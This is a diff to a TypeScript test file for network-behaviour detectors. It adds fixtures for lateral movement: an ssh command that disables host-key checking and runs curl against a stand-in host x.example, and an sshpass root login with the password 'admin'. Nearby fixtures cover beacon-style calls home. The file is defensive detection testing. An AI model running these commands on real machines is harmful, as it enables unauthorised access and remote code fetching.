@@ -15,6 +15,15 @@ const carrying = (count: number) =>
 const calls = (url: string, gapMs: number) => [0, 1, 2, 3, 4].map((turn) => gets(url, { atMs: turn * gapMs }))
 
 testFamily(networkDetectors, {
+  trace_moves_to_other_machines: {
+    hits: {
+      'keys that it found': [
+        runs('ssh -oStrictHostKeyChecking=no -oBatchMode=yes root@10.0.2.20 curl http://x.example/a'),
+      ],
+      'a password': [runs('sshpass -p admin ssh root@10.0.2.20 id')],
+    },
+    misses: { 'a login': [runs('ssh anna@db01')], 'a copy': [runs('scp a.txt anna@db01:')] },
+  },
   trace_calls_home: {
     hits: { 'once a minute': calls('http://x.example/gate?n=1', 60_000) },
     misses: {
